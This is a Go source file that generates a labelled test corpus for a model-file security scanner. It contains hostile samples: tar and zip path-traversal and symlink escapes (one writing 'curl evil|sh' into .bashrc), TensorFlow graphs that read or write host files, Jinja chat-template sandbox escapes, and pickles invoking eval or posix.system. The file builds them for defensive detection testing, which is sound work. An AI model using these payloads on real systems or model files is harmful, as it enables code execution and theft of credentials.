// Package corpus generates a labelled model corpus for the classes of
// gatehouse issue 14: archives whose members escape, TensorFlow graphs
// that reach files (binary and text-format SavedModels, Keras TFSMLayer),
// chat templates that reach Python internals however they spell it, input
// that is malformed in ways loaders refuse, and the common benign files
// that used to raise false alarms. Every case is built here, byte by
// byte (pickles as CPython's pickler writes them, protobuf with
// google.golang.org/protobuf's wire encoder, tar and zip with the standard
// library), so the corpus needs neither Python nor torch.
package corpus

import (
	"archive/tar"
	"bytes"
	"os"
	"path/filepath"
	"sort"
	"strings"
)

// Label is what a case is.
type Label string

const (
	Hostile   Label = "hostile"   // must be denied, for Reason
	Benign    Label = "benign"    // must be clean
	Malformed Label = "malformed" // must be not verified (and not a finding)
)

// Case is one model folder.
type Case struct {
	Class string
	Name  string
	Label Label
	Files map[string][]byte // path inside the folder → content
	// Reason is a substring the deciding finding's reason (or module.name)
	// holds: hostile files must be denied for the right reason.
	Reason string
}

// Classes in report order.
var Classes = []string{"archive escape", "tensorflow", "chat template", "malformed input", "common files"}

// Write materialises a case under dir.
func (c Case) Write(dir string) error {
	names := make([]string, 0, len(c.Files))
	for n := range c.Files {
		names = append(names, n)
	}
	sort.Strings(names)
	for _, n := range names {
		p := filepath.Join(dir, filepath.FromSlash(n))
		if err := os.MkdirAll(filepath.Dir(p), 0o755); err != nil {
			return err
		}
		if err := os.WriteFile(p, c.Files[n], 0o644); err != nil {
			return err
		}
	}
	return nil
}

func one(name string, b []byte) map[string][]byte { return map[string][]byte{name: b} }

// Cases returns the corpus; templatesDir holds real benign chat templates
// (*.jinja) used as the benign side of the template class.
func Cases(templatesDir string) []Case {
	var cs []Case
	add := func(class, name string, l Label, files map[string][]byte, reason string) {
		cs = append(cs, Case{Class: class, Name: name, Label: l, Files: files, Reason: reason})
	}
	safe := []byte("{\"hidden_size\": 64}\n")

	// ---- archive escape ----
	const A = "archive escape"
	reg := func(n string, b []byte) tarEntry { return tarEntry{name: n, data: b} }
	add(A, "tar ../ name", Hostile, one("model.tar", tarBytes(reg("model/config.json", safe), reg("../../.bashrc", []byte("curl evil|sh\n")))), "outside")
	add(A, "tar absolute name", Hostile, one("model.tar", tarBytes(reg("/etc/cron.d/job", []byte("* * * * * root id\n")))), "absolute")
	add(A, "tar symlink to /etc/passwd", Hostile, one("model.tar", tarBytes(tarEntry{name: "model/vocab.txt", link: "/etc/passwd", typ: tar.TypeSymlink})), "outside")
	add(A, "tar symlink climbing out", Hostile, one("model.tar", tarBytes(tarEntry{name: "a/b/link", link: "../../../home", typ: tar.TypeSymlink})), "outside")
	add(A, "tar symlink then write through it", Hostile, one("model.tar", tarBytes(tarEntry{name: "cfg", link: "/root/.ssh", typ: tar.TypeSymlink}, reg("cfg/authorized_keys", []byte("ssh-ed25519 AAAA\n")))), "outside")
	add(A, "tar hard link to /etc/shadow", Hostile, one("model.tar", tarBytes(tarEntry{name: "weights.bin", link: "/etc/shadow", typ: tar.TypeLink})), "outside")
	add(A, "tar hard link climbing out", Hostile, one("model.tar", tarBytes(tarEntry{name: "x/h", link: "../../secret", typ: tar.TypeLink})), "outside")
	add(A, "tar.gz ../ name", Hostile, one("model.tar.gz", gz(tarBytes(reg("ok.txt", safe), reg("sub/../../../x.py", []byte("import os\n"))))), "outside")
	add(A, "tar ../ member holding a safetensors-looking blob", Hostile, one("model.tar", tarBytes(reg("../model.safetensors", []byte("not a model")))), "outside")
	add(A, "tar backslash traversal", Hostile, one("model.tar", tarBytes(reg(`..\..\startup.bat`, []byte("calc\r\n")))), "outside")
	add(A, "zip ../ name", Hostile, one("model.zip", zipBytes(zipEntry{name: "../../.profile", data: []byte("id\n")})), "outside")
	add(A, "zip absolute name", Hostile, one("model.zip", zipBytes(zipEntry{name: "/tmp/x.txt", data: safe})), "absolute")
	add(A, "zip drive letter", Hostile, one("model.zip", zipBytes(zipEntry{name: `C:\Users\Public\x.txt`, data: safe})), "drive letter")
	add(A, "zip symlink to /etc/passwd", Hostile, one("model.zip", zipBytes(zipEntry{name: "vocab.txt", data: []byte("/etc/passwd"), symlink: true})), "outside")
	add(A, "zip symlink climbing out", Hostile, one("model.zip", zipBytes(zipEntry{name: "d/l", data: []byte("../../.."), symlink: true})), "outside")
	add(A, "zip in tar with ../", Hostile, one("bundle.tar", tarBytes(reg("inner.zip", zipBytes(zipEntry{name: "../evil.txt", data: safe})))), "outside")
	add(A, "torch zip with ../ member", Hostile, one("pytorch_model.bin", zipBytes(zipEntry{name: "archive/data.pkl", data: newPickle(2).op(opEmptyDict).stop()}, zipEntry{name: "archive/../../x", data: safe}, zipEntry{name: "archive/version", data: []byte("3\n")})), "outside")

	add(A, "tar with folders and an internal symlink", Benign, one("model.tar", tarBytes(tarEntry{name: "m/", typ: tar.TypeDir}, reg("m/v1/config.json", safe), tarEntry{name: "m/latest", link: "v1", typ: tar.TypeSymlink}, tarEntry{name: "m/v1/cfg2.json", link: "m/v1/config.json", typ: tar.TypeLink})), "")
	add(A, "zip with ./ and inner .. that stays inside", Benign, one("model.zip", zipBytes(zipEntry{name: "./a/config.json", data: safe}, zipEntry{name: "a/b/../vocab.txt", data: []byte("hello\n")})), "")
	add(A, "tar.gz of a Hugging Face folder", Benign, one("repo.tar.gz", gz(tarBytes(reg("repo/config.json", safe), reg("repo/README.md", []byte("# model\n")), tarEntry{name: "repo/tokenizer.json", link: "../repo/config.json", typ: tar.TypeSymlink}))), "")
	add(A, "zip symlink to a sibling", Benign, one("model.zip", zipBytes(zipEntry{name: "a/config.json", data: safe}, zipEntry{name: "a/link.json", data: []byte("config.json"), symlink: true})), "")

	tr := tarBytes(reg("config.json", bytes.Repeat([]byte("x"), 3000)))
	add(A, "tar cut inside a member", Malformed, one("model.tar", tr[:1536]), "")
	z := zipBytes(zipEntry{name: "config.json", data: safe})
	add(A, "zip without central directory", Malformed, one("model.zip", z[:len(z)-60]), "")

	// ---- tensorflow ----
	const T = "tensorflow"
	plain := []tfNode{{name: "x", op: "Placeholder"}, {name: "dense/MatMul", op: "MatMul", inputs: []string{"x", "w"}}}
	pb := func(nodes []tfNode, fns []tfFunc, assets [][2]string) map[string][]byte {
		return map[string][]byte{"saved_model.pb": savedModelPB(append(append([]tfNode{}, plain...), nodes...), fns, assets), "variables/variables.index": []byte("index\n")}
	}
	pbtxt := func(body string) map[string][]byte {
		return map[string][]byte{"saved_model.pbtxt": []byte("saved_model_schema_version: 1\nmeta_graphs {\n  meta_info_def { tags: \"serve\" }\n  graph_def {\n    node { name: \"x\" op: \"Placeholder\" attr { key: \"dtype\" value { type: DT_FLOAT } } }\n" + body + "  }\n}\n")}
	}
	add(T, "pbtxt PyFunc", Hostile, pbtxt(`    node { name: "cb" op: "PyFunc" input: "x" attr { key: "token" value { s: "pyfunc_0" } } }`+"\n"), "PyFunc")
	add(T, "pbtxt PrintV2 to a file", Hostile, pbtxt(`    node { name: "p" op: "PrintV2" input: "x" attr { key: "output_stream" value { s: "file:///home/user/.bashrc" } } }`+"\n"), "output_stream")
	add(T, "pbtxt PrintV2 to a file, escaped", Hostile, pbtxt(`    node { name: "p" op: "PrintV2" input: "x" attr { key: "output_stream" value { s: "\146ile:///etc/profile.d/x.sh" } } }`+"\n"), "output_stream")
	add(T, "pbtxt WriteFile", Hostile, pbtxt(`    node { name: "c" op: "Const" attr { key: "value" value { tensor { dtype: DT_STRING string_val: "/tmp/x" } } } }
    node { name: "w" op: "WriteFile" input: "c" input: "x" }`+"\n"), "WriteFile")
	add(T, "pbtxt ReadFile of /etc/passwd", Hostile, pbtxt(`    node { name: "c" op: "Const" attr { key: "value" value { tensor { string_val: "/etc/passwd" } } } }
    node { name: "r" op: "ReadFile" input: "c:0" }`+"\n"), "ReadFile")
	add(T, "pbtxt ShellExecute in a function", Hostile, pbtxt(`    library { function { signature { name: "__inference_call_1" } node_def { name: "sh" op: "ShellExecute" input: "cmd" } } }`+"\n"), "ShellExecute")
	add(T, "pbtxt saver-named SaveV2 to an absolute path", Hostile, pbtxt(`    node { name: "save/Const" op: "Const" attr { key: "value" value { tensor { string_val: "/etc/cron.d/ckpt" } } } }
    node { name: "save/SaveV2" op: "SaveV2" input: "save/Const" input: "names" input: "slices" }`+"\n"), "fixed path")
	add(T, "pbtxt table from a host file", Hostile, pbtxt(`    node { name: "c" op: "Const" attr { key: "value" value { tensor { string_val: "/etc/shadow" } } } }
    node { name: "init" op: "InitializeTableFromTextFileV2" input: "table" input: "c" }`+"\n"), "lookup table")
	add(T, "pb PrintV2 to a file", Hostile, pb([]tfNode{{name: "p", op: "PrintV2", inputs: []string{"x"}, attrs: [][2]string{{"output_stream", "file:///tmp/exfil.log"}}}}, tf2Saver, nil), "output_stream")
	add(T, "pb DebugIdentity to a file URL", Hostile, pb([]tfNode{{name: "d", op: "DebugIdentity", inputs: []string{"x"}, urls: []string{"file:///var/tmp/dump"}}}, nil, nil), "debug_urls")
	add(T, "pb saver-named SaveV2 to an absolute path", Hostile, pb([]tfNode{{name: "save/Const", op: "Const", constStr: "/root/.bashrc"}, {name: "save/SaveV2", op: "SaveV2", inputs: []string{"save/Const:0", "n", "s"}}}, nil, nil), "fixed path")
	add(T, "pb traced_save function writing ../", Hostile, pb(nil, []tfFunc{{"__inference__traced_save_7", []tfNode{{name: "p", op: "Const", constStr: "../../../tmp/x"}, {name: "SaveV2", op: "SaveV2", inputs: []string{"p:output:0", "n", "s"}}}}}, nil), "fixed path")
	add(T, "pb WriteFile in a serving function", Hostile, pb(nil, []tfFunc{{"__inference_serving_default_3", []tfNode{{name: "w", op: "WriteFile", inputs: []string{"a", "b"}}}}}, nil), "WriteFile")
	add(T, "pb MergeV2Checkpoints outside the saver", Hostile, pb([]tfNode{{name: "m", op: "MergeV2Checkpoints", inputs: []string{"a", "b"}}}, nil, nil), "MergeV2Checkpoints")
	add(T, "keras TFSMLayer absolute path", Hostile, one("model.keras", kerasZip(kerasConfig(dense("d"), tfsm("/opt/models/other")))), "TFSMLayer")
	add(T, "keras TFSMLayer ../", Hostile, one("model.keras", kerasZip(kerasConfig(tfsm("../shared/saved_model")))), "TFSMLayer")
	add(T, "keras TFSMLayer gs://", Hostile, one("model.keras", kerasZip(kerasConfig(tfsm("gs://bucket/model")))), "TFSMLayer")

	add(T, "pb TF2 model with saver", Benign, pb(nil, tf2Saver, nil), "")
	add(T, "pb TF1 saver and a table from assets/", Benign, map[string][]byte{
		"saved_model.pb": savedModelPB(append(append([]tfNode{}, plain...), tfNode{name: "save/filename/input", op: "Const", constStr: "model"},
			tfNode{name: "save/filename", op: "PlaceholderWithDefault", inputs: []string{"save/filename/input"}},
			tfNode{name: "save/SaveV2", op: "SaveV2", inputs: []string{"save/filename", "n", "s"}},
			tfNode{name: "save/RestoreV2", op: "RestoreV2", inputs: []string{"save/filename", "n", "s"}},
			tfNode{name: "asset_path/Const", op: "Const", constStr: "/tmp/export/vocab.txt"},
			tfNode{name: "string_to_index/hash_table/table_init", op: "InitializeTableFromTextFileV2", inputs: []string{"string_to_index/hash_table", "asset_path/Const:0"}}), nil,
			[][2]string{{"asset_path/Const:0", "vocab.txt"}}),
		"assets/vocab.txt": []byte("the\nof\nand\n")}, "")
	add(T, "pb TF2 table initialised in a function from a captured asset", Benign, map[string][]byte{
		"saved_model.pb": savedModelPB(plain, append([]tfFunc{{"__inference__initializer_55", []tfNode{{name: "InitializeTableFromTextFileV2", op: "InitializeTableFromTextFileV2", inputs: []string{"table", "asset_path"}}}}}, tf2Saver...),
			[][2]string{{"Const_2:0", "vocab.txt"}}),
		"assets/vocab.txt": []byte("a\nb\n")}, "")
	add(T, "pbtxt plain model with PrintV2 to stderr", Benign, pbtxt(`    node { name: "p" op: "PrintV2" input: "x" attr { key: "output_stream" value { s: "stderr" } } }`+"\n"), "")
	add(T, "keras dense model", Benign, one("model.keras", kerasZip(kerasConfig(dense("d1"), dense("d2")))), "")

	add(T, "pbtxt cut inside a message", Malformed, map[string][]byte{"saved_model.pbtxt": pbtxt("")["saved_model.pbtxt"][:120]}, "")
	add(T, "pbtxt bad escape", Malformed, pbtxt(`    node { name: "p\q" op: "Identity" }`+"\n"), "")
	badWire := savedModelPB(plain, nil, nil)
	badWire = append(badWire[:len(badWire):len(badWire)], 0x0f) // field 1, wire type 7
	add(T, "pb with wire type 7", Malformed, one("saved_model.pb", badWire), "")

	// ---- chat templates ----
	const C = "chat template"
	hostileTemplates := map[string]string{
		"literal dunder":              `{{ ''.__class__.__mro__[1].__subclasses__() }}`,
		"'_' * 2":                     `{% set u = '_' * 2 %}{{ ()|attr(u ~ 'class' ~ u)|attr(u ~ 'base' ~ u) }}`,
		"%c%c format":                 `{{ lipsum|attr("%c%cglobals%c%c"|format(95,95,95,95)) }}`,
		"join of parts":               `{% set g = ['_','_','glo','bals','_','_']|join %}{{ cycler.__init__ if false }}{{ lipsum[g] }}`,
		"map(attribute=...)":          `{{ messages|map(attribute='_' ~ '_class' ~ '__')|list }}`,
		"reverse":                     `{{ lipsum|attr('__slabolg__'|reverse) }}`,
		"str.format field":            `{{ '{0.__globals__}'.format(lipsum) }}`,
		"object string slicing":       `{% set u = (lipsum|string)[0] %}{{ ()|attr(u) }}`,
		"dict key":                    `{{ ()|attr(dict(__class__=1)|first) }}`,
		"dead branch":                 `{% set n = 'role' %}{% if false %}{% set n = '__init__' %}{% endif %}{{ cycler|attr(n) }}`,
		"macro argument":              `{% macro g(o, n) %}{{ o|attr(n) }}{% endmacro %}{{ g(lipsum, '_' * 2 ~ 'globals' ~ '_' * 2) }}`,
		"loop-built name":             `{% set ns = namespace(s='') %}{% for c in '__globals__' %}{% set ns.s = ns.s ~ c %}{% endfor %}{{ lipsum[ns.s] }}`,
		"hex escapes in subscript":    `{{ joiner['\x5f\x5finit\x5f\x5f'] }}`,
		"block set":                   `{% set a %}__class__{% endset %}{{ ()|attr(a) }}`,
		"os in context":               `{{ os.popen('id').read() }}`,
		"include from the server":     `{% include '/etc/passwd' %}`,
		"selectattr dunder":           `{{ messages|selectattr('__class__')|list }}`,
		"percent operator":            `{{ ()|attr('%s%sclass%s%s' % ('_','_','_','_')) }}`,
		"format spec c":               `{{ ()|attr('{:c}{:c}class{:c}{:c}'.format(95,95,95,95)) }}`,
		"replace to dunder":           `{{ ()|attr('XXclassXX'|replace('X','_')) }}`,
		"lower of upper":              `{{ ()|attr('__CLASS__'|lower) }}`,
		"attr from an unknown filter": `{{ ()|attr('x'|some_server_filter) }}`,
		"TemplateReference context":   `{{ self._TemplateReference__context.cycler }}`,
	}
	names := make([]string, 0, len(hostileTemplates))
	for n := range hostileTemplates {
		names = append(names, n)
	}
	sort.Strings(names)
	for i, n := range names {
		t := hostileTemplates[n]
		switch i % 4 {
		case 0:
			add(C, "tokenizer_config "+n, Hostile, one("tokenizer_config.json", tokenizerConfig(t)), "template")
		case 1:
			add(C, "GGUF "+n, Hostile, one("model.gguf", ggufWithTemplate(t)), "template")
		case 2:
			add(C, "named template list "+n, Hostile, one("tokenizer_config.json", tokenizerConfig([]map[string]string{{"name": "default", "template": "{{ messages[0].content }}"}, {"name": "tool_use", "template": t}})), "template")
		default:
			add(C, "chat_template.jinja "+n, Hostile, map[string][]byte{"chat_template.jinja": []byte(t), "config.json": safe}, "template")
		}
	}
	real, _ := filepath.Glob(filepath.Join(templatesDir, "*.jinja"))
	sort.Strings(real)
	for i, p := range real {
		b, err := os.ReadFile(p)
		if err != nil {
			continue
		}
		n := strings.TrimSuffix(filepath.Base(p), ".jinja")
		switch i % 3 {
		case 0:
			add(C, "tokenizer_config "+n, Benign, one("tokenizer_config.json", tokenizerConfig(string(b))), "")
		case 1:
			add(C, "chat_template.jinja "+n, Benign, one("chat_template.jinja", b), "")
		default:
			add(C, "tokenizer_config list "+n, Benign, one("tokenizer_config.json", tokenizerConfig([]map[string]string{{"name": "default", "template": string(b)}})), "")
		}
	}
	add(C, "GGUF with a ChatML template", Benign, one("model.gguf", ggufWithTemplate("{% for message in messages %}{{'<|im_start|>' + message['role'] + '\n' + message['content'] + '<|im_end|>' + '\n'}}{% endfor %}{% if add_generation_prompt %}{{ '<|im_start|>assistant\n' }}{% endif %}")), "")
	add(C, "template that does not parse", Malformed, one("tokenizer_config.json", tokenizerConfig("{% if messages %}{{ messages[0] }")), "")
	add(C, "tokenizer_config that is not JSON", Malformed, one("tokenizer_config.json", []byte(`{"chat_template": "{{ x }}",`)), "")
	add(C, "chat_template of the wrong type", Malformed, one("tokenizer_config.json", tokenizerConfig(42)), "")

	// ---- malformed input ----
	const M = "malformed input"
	body := newPickle(4).b[2:]
	body = append(body, newPickle(4).global("collections", "OrderedDict").op(opEmptyTuple, opReduce).b[2:]...)
	body = append(body, opStop)
	add(M, "pickle FRAME of 2^40 bytes", Malformed, one("model.pkl", framed(body, 1<<40)), "")
	add(M, "pickle FRAME larger than sys.maxsize", Malformed, one("model.pkl", framed(body, 1<<63+5)), "")
	add(M, "torch zip whose data.pkl has an absurd FRAME", Malformed, one("pytorch_model.bin", torchZip(framed(body, 1<<50))), "")
	add(M, "keras config.json with invalid UTF-8", Malformed, one("model.keras", kerasZip(append(kerasConfig(dense("d"))[:20:20], append([]byte{0xff, 0xfe}, kerasConfig(dense("d"))[20:]...)...))), "")
	add(M, "ONNX initializer of 2^40 elements without data", Malformed, one("model.onnx", onnxModel([]onnxTensor{{name: "w", dims: []uint64{1 << 20, 1 << 20}, dtype: 1}}, nil)), "")
	add(M, "ONNX raw_data shorter than its dims", Malformed, one("model.onnx", onnxModel([]onnxTensor{{name: "w", dims: []uint64{16, 16}, dtype: 1, raw: make([]byte, 64), hasRaw: true}}, nil)), "")
	onnxBad := onnxModel([]onnxTensor{{name: "w", dims: []uint64{2}, dtype: 1, raw: make([]byte, 8), hasRaw: true}}, []byte{0x0e}) // field 1, wire type 6
	add(M, "ONNX with wire type 6 in the graph", Malformed, one("model.onnx", onnxBad), "")
	onnxWrongType := onnxModel([]onnxTensor{{name: "w", dims: []uint64{2}, dtype: 1, raw: make([]byte, 8), hasRaw: true}}, pmsg(nil, 5, pstr(pstr(nil, 8, "b"), 2, "x"))) // data_type as bytes
	add(M, "ONNX data_type with the wrong wire type", Malformed, one("model.onnx", onnxWrongType), "")
	add(M, "ONNX external data shorter than its tensors", Malformed, map[string][]byte{"model.onnx": onnxModel([]onnxTensor{{name: "w", dims: []uint64{1024}, dtype: 1, location: "model.onnx.data"}}, nil), "model.onnx.data": make([]byte, 100)}, "")
	add(M, "safetensors-looking header that is not JSON", Malformed, one("model.safetensors", append([]byte{8, 0, 0, 0, 0, 0, 0, 0}, "{nope...}"...)), "")

	// ---- common files (false alarms and their hostile neighbours) ----
	const F = "common files"
	tok := newPickle(4).stackGlobal("tokenizers", "Tokenizer").stackGlobal("tokenizers.models", "BPE").op(opEmptyTuple, opNewObj).
		binbytes([]byte(`{"type":"BPE","dropout":null,"unk_token":null,"vocab":{},"merges":[]}`)).op(opBuild, opTuple1, opNewObj).
		binbytes([]byte(`{"version":"1.0","truncation":null,"padding":null,"added_tokens":[],"model":{"type":"BPE"}}`)).op(opBuild).stop()
	add(F, "tokenizers.Tokenizer pickle", Benign, one("tokenizer.pkl", tok), "")
	q := newPickle(2).global("collections", "OrderedDict").op(opEmptyTuple, opReduce, opMark).
		str("fc.weight").global("torch._utils", "_rebuild_qtensor").op(opMark).
		op(opMark).str("storage").global("torch", "QUInt8Storage").str("0").str("cpu").binint(64).op(opTuple, opBinPersID).
		binint(0).op(opMark).binint(8).binint(8).op(opTuple).op(opMark).binint(8).binint(1).op(opTuple).
		op(opMark).global("torch", "per_tensor_affine").float(0.1).binint(128).op(opTuple).
		op(opNewFalse).global("collections", "OrderedDict").op(opEmptyTuple, opReduce).op(opTuple, opReduce).
		str("fc2.weight").global("torch._utils", "_rebuild_qtensor").op(opMark).
		op(opMark).str("storage").global("torch", "QInt8Storage").str("1").str("cpu").binint(64).op(opTuple, opBinPersID).
		binint(0).op(opMark).binint(8).binint(8).op(opTuple).op(opMark).binint(8).binint(1).op(opTuple).
		op(opMark).global("torch", "per_channel_affine").op(opNone).op(opNone).binint(0).op(opTuple).
		op(opNewFalse).global("collections", "OrderedDict").op(opEmptyTuple, opReduce).op(opTuple, opReduce).
		str("scale").global("torch", "float32").op(opSetItems).stop()
	add(F, "quantized torch state dict (torch.save zip)", Benign, one("model_quantized.pt", torchZip(q, make([]byte, 64), make([]byte, 64))), "")
	p2 := newPickle(2).op(opMark).global("__builtin__", "xrange").op(opMark).binint(0).binint(10).binint(1).op(opTuple, opReduce).
		global("__builtin__", "set").op(opMark).str("a").op(opList).op(opTuple1, opReduce).
		global("__builtin__", "frozenset").op(opMark).str("b").op(opList).op(opTuple1, opReduce).
		global("copy_reg", "_reconstructor").op(opMark).global("__builtin__", "object").global("__builtin__", "object").op(opNone).op(opTuple, opReduce).
		global("_codecs", "encode").op(opMark).str("\u00ff").str("latin1").op(opTuple, opReduce).
		global("__builtin__", "unicode").op(opMark).str("x").op(opTuple, opReduce).
		global("__builtin__", "long").op(opMark).str("7").op(opTuple, opReduce).
		op(opList).stop()
	add(F, "protocol 2 pickle with __builtin__ names", Benign, one("state.pkl", p2), "")
	add(F, "ONNX with external data beside it", Benign, map[string][]byte{
		"model.onnx":      onnxModel([]onnxTensor{{name: "w", dims: []uint64{256}, dtype: 1, location: "model.onnx.data"}, {name: "b", dims: []uint64{16}, dtype: 1, location: "model.onnx.data", offset: 1024, length: 64}}, nil),
		"model.onnx.data": bytes.Repeat([]byte{0x80, 0x3f, 0, 0}, 272)}, "")
	add(F, "ONNX with external data named .bin", Benign, map[string][]byte{
		"model.onnx":    onnxModel([]onnxTensor{{name: "w", dims: []uint64{64}, dtype: 1, location: "weights/w.bin"}}, nil),
		"weights/w.bin": bytes.Repeat([]byte{1, 2, 3, 4}, 64)}, "")
	add(F, "ONNX with inline weights", Benign, one("model.onnx", onnxModel([]onnxTensor{{name: "w", dims: []uint64{4, 4}, dtype: 1, raw: make([]byte, 64), hasRaw: true}}, nil)), "")

	add(F, "protocol 2 __builtin__.eval", Hostile, one("state.pkl", evilPickle("__builtin__", "eval")), "evaluates")
	add(F, "protocol 2 __builtin__.reduce (functools)", Hostile, one("state.pkl", evilPickle("__builtin__", "reduce")), "functools")
	add(F, "tokenizers dotted name", Hostile, one("tokenizer.pkl", newPickle(4).stackGlobal("tokenizers", "Tokenizer.from_file").str("/etc/passwd").op(opTuple1, opReduce).stop()), "dotted")
	add(F, "quantized state with torch.load inside", Hostile, one("model_quantized.pt", torchZip(newPickle(2).global("torch", "per_tensor_affine").op('0').global("torch", "load").op(opMark).str("/tmp/x.pt").op(opTuple, opReduce).stop())), "torch.load")
	add(F, "ONNX external data ../", Hostile, map[string][]byte{"model.onnx": onnxModel([]onnxTensor{{name: "w", dims: []uint64{4}, dtype: 1, location: "../../etc/passwd"}}, nil)}, "traversal")
	add(F, "ONNX external data absolute", Hostile, map[string][]byte{"model.onnx": onnxModel([]onnxTensor{{name: "w", dims: []uint64{4}, dtype: 1, location: "/etc/shadow"}}, nil)}, "absolute")
	add(F, "pickle beside ONNX named as its data", Hostile, map[string][]byte{
		"model.onnx":      onnxModel([]onnxTensor{{name: "w", dims: []uint64{4}, dtype: 1, location: "model.onnx.data"}}, nil),
		"model.onnx.data": evilPickle("posix", "system")}, "operating-system")
	add(F, "unclaimed binary beside ONNX", Malformed, map[string][]byte{
		"model.onnx": onnxModel([]onnxTensor{{name: "w", dims: []uint64{4}, dtype: 1, raw: make([]byte, 16), hasRaw: true}}, nil),
		"extra.bin":  bytes.Repeat([]byte{0xde, 0xad, 0xbe, 0xef}, 16)}, "")
	return cs
}
